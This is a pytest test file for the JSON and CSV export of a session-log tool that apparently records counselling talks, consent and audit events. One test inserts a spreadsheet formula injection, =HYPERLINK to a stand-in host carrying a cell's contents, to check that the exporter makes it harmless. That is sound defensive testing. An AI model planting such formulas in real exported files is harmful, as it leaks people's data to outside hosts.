from __future__ import annotations

import csv
import io
import json
import stat
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from rich_log import care, record, write_rich_log

from session_log.__main__ import main
from session_log.events import Event, TurnHeard
from session_log.export import Selection, csv_export, harmless_cell, json_export
from session_log.kinds import ALL_EVENTS
from session_log.location import LogPlaces
from session_log.operator_access import operator_name
from session_log.reader import reading
from session_log.timeline import event_values
from session_log.verify import verify
from session_log.writer import SessionLog

Talk = Callable[..., list[Event]]
Output = pytest.CaptureFixture[str]


@pytest.fixture
def places(path: Path, talk: Talk) -> LogPlaces:
    return write_rich_log(path, talk)


def run(places: LogPlaces, *arguments: object) -> int:
    return main(["export", "--database", str(places.database), *map(str, arguments)])


def test_a_talk_is_exported_with_all_its_events(places: LogPlaces, talk: Talk, capsys: Output) -> None:
    assert run(places, "talk-1") == 0
    document = json.loads(capsys.readouterr().out)
    (exported,) = document["talks"]
    assert exported["talk"]["talk_id"] == "talk-1"
    names = [event["event"] for event in exported["events"]]
    assert {"turn_heard", "mood_estimated", "note_written", "label_reviewed", "audio_kept"} <= set(names)
    heard = next(event for event in exported["events"] if event["event"] == "turn_heard")
    assert heard["text"] == next(event.text for event in talk() if isinstance(event, TurnHeard))
    assert document["persons"] == []


def test_a_persons_export_has_their_talks_and_what_is_kept_beyond_them(
    places: LogPlaces, capsys: Output
) -> None:
    assert run(places, "--person", "p-1") == 0
    document = json.loads(capsys.readouterr().out)
    assert [entry["talk"]["talk_id"] for entry in document["talks"]] == ["talk-1", "talk-5"]
    (beyond,) = document["persons"]
    assert beyond["person"] == "p-1"
    assert {event["event"] for event in beyond["events"]} == {
        "note_written",
        "goal_set",
        "questionnaire_answered",
        "person_consent_set",
    }
    assert "p-2" not in json.dumps(document)


def test_everything_is_exported_but_the_audit(places: LogPlaces, capsys: Output) -> None:
    assert run(places, "--all") == 0
    document = json.loads(capsys.readouterr().out)
    ids = [entry["talk"]["talk_id"] for entry in document["talks"]]
    assert sorted(ids) == ["talk-1", "talk-2", "talk-3", "talk-4", "talk-5"]
    assert [entry["person"] for entry in document["persons"]] == ["p-1", "p-2"]
    assert "access_noted" not in json.dumps(document)


def test_of_an_erased_talk_its_frame_is_exported(places: LogPlaces, capsys: Output) -> None:
    assert run(places, "talk-2") == 0
    (exported,) = json.loads(capsys.readouterr().out)["talks"]
    assert exported["talk"]["erased_at"] is not None
    assert {event["event"] for event in exported["events"]} >= {"talk_started", "crisis_flagged", "erased"}
    assert "turn_heard" not in {event["event"] for event in exported["events"]}


def test_csv_has_an_event_a_row_and_a_mark_for_excel(places: LogPlaces, tmp_path: Path, talk: Talk) -> None:
    out = tmp_path / "talk.csv"
    assert run(places, "talk-1", "--format", "csv", "-o", out) == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbfevent,")
    with out.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    with reading(places) as reader:
        assert [row["event_id"] for row in rows] == [event.event_id for event in reader.events("talk-1")]
    heard = next(row for row in rows if row["event"] == "turn_heard")
    assert heard["text"].startswith("از دست همکارم")
    assert (heard["confidence"], heard["heard_text"]) == ("0.75", "")
    mood = next(row for row in rows if row["event"] == "mood_estimated")
    assert json.loads(mood["probabilities"]) == {"anger": 0.75, "neutral": 0.25}
    assert mood["abstained"] == "false"


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_words_that_a_spreadsheet_would_compute_are_made_harmless(path: Path, talk: Talk, sign: str) -> None:
    text = f'{sign}HYPERLINK("http://example.invalid/?"&A1)'
    places = LogPlaces.of(path)
    with SessionLog.open(places) as log:
        record(log, [replace(e, text=text) if isinstance(e, TurnHeard) else e for e in talk()])
    with reading(places) as reader:
        whole = "".join(csv_export(reader, Selection("talk-1")))
    row = next(
        row for row in csv.DictReader(io.StringIO(whole[1:], newline="")) if row["event"] == "turn_heard"
    )
    assert row["text"] == f"'{text}"


def test_no_cell_of_any_kind_begins_as_a_formula(places: LogPlaces) -> None:
    with reading(places) as reader:
        whole = "".join(csv_export(reader, Selection()))
    heading, *rows = csv.reader(io.StringIO(whole.removeprefix("\ufeff"), newline=""))
    assert len(heading) == len(set(heading))
    assert all(harmless_cell(cell) == cell for row in rows for cell in row if not cell.startswith("'"))


def test_every_field_of_every_event_has_a_column(places: LogPlaces) -> None:
    with reading(places) as reader:
        heading = next(csv_export(reader, Selection())).removeprefix("\ufeff").strip().split(",")
        for talk_id in Selection().talks(reader):
            for event in reader.events(talk_id):
                assert set(event_values(event)) <= set(heading)
    assert len(ALL_EVENTS) >= 28


def test_an_export_is_noted_before_it_is_written(places: LogPlaces, capsys: Output) -> None:
    assert run(places, "--person", "p-1", "--format", "csv") == 0
    with reading(places) as reader:
        facts = [
            json.loads(row[0])
            for row in reader.database.execute(
                "SELECT facts FROM events WHERE event_kind = 'access_noted' ORDER BY sequence"
            )
        ]
    assert facts[-1]["action"] == "export_made"
    assert facts[-1]["actor"] == operator_name()
    assert (facts[-1]["role"], facts[-1]["person"], facts[-1]["detail"]) == ("operator", "p-1", "csv")
    assert verify(places) == []


def test_while_a_server_writes_the_log_nothing_is_exported(
    places: LogPlaces, tmp_path: Path, capsys: Output
) -> None:
    out = tmp_path / "out.json"
    with SessionLog.open(places):
        assert run(places, "--all", "-o", out) == 2
    printed, told = capsys.readouterr()
    assert printed == ""
    assert "stop the server and call this again" in told
    assert told.count("\n") == 1
    assert not out.exists()


def test_a_file_that_is_there_is_left_alone_unless_forced(
    places: LogPlaces, tmp_path: Path, capsys: Output
) -> None:
    out = tmp_path / "out.json"
    out.write_text("mine")
    assert run(places, "talk-1", "-o", out) == 2
    assert "--force" in capsys.readouterr().err
    assert out.read_text() == "mine"
    assert run(places, "talk-1", "-o", out, "--force") == 0
    assert json.loads(out.read_text(encoding="utf-8"))["talks"]


def test_a_file_is_readable_by_its_owner_alone(places: LogPlaces, tmp_path: Path) -> None:
    out = tmp_path / "out.json"
    assert run(places, "talk-1", "-o", out) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [file.name for file in tmp_path.iterdir() if file.is_file()] == ["out.json"]


def test_an_export_that_breaks_off_leaves_no_file(
    places: LogPlaces, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken_off(*_: object) -> object:
        yield "["
        raise KeyboardInterrupt

    monkeypatch.setitem(main.__globals__["FORMATS"], "json", broken_off)
    assert run(places, "talk-1", "-o", tmp_path / "out.json") == 130
    assert not list(tmp_path.glob("out.json*"))


@pytest.mark.parametrize("who", [("nobody",), ("--person", "nobody")])
def test_what_is_not_there_exits_2_and_is_not_noted(
    places: LogPlaces, who: tuple[str, ...], capsys: Output
) -> None:
    before = _rows(places)
    assert run(places, *who) == 2
    assert capsys.readouterr().err.count("\n") == 1
    assert _rows(places) == before


def test_a_log_that_is_not_there_is_not_made(tmp_path: Path, capsys: Output) -> None:
    places = LogPlaces.of(tmp_path / "none" / "log.sqlite")
    assert run(places, "--all") == 2
    assert "There is no session log" in capsys.readouterr().err
    assert not places.database.parent.exists()


def test_an_export_to_a_folder_that_is_not_there_exits_2(places: LogPlaces, capsys: Output) -> None:
    assert run(places, "talk-1", "-o", places.database.parent / "no" / "out.json") == 2
    assert "cannot be written" in capsys.readouterr().err


def test_a_person_without_talks_can_have_what_is_kept(path: Path) -> None:
    places = LogPlaces.of(path)
    with SessionLog.open(places) as log:
        record(log, [event for event in care("p-9", "talk-1") if getattr(event, "talk_id", None) is None])
    with reading(places) as reader:
        document = json.loads("".join(json_export(reader, Selection(person="p-9"))))
    assert document["talks"] == []
    assert len(document["persons"][0]["events"]) == 5


def _rows(places: LogPlaces) -> int:
    with reading(places) as reader:
        return int(reader.database.execute("SELECT count(*) FROM events").fetchone()[0])
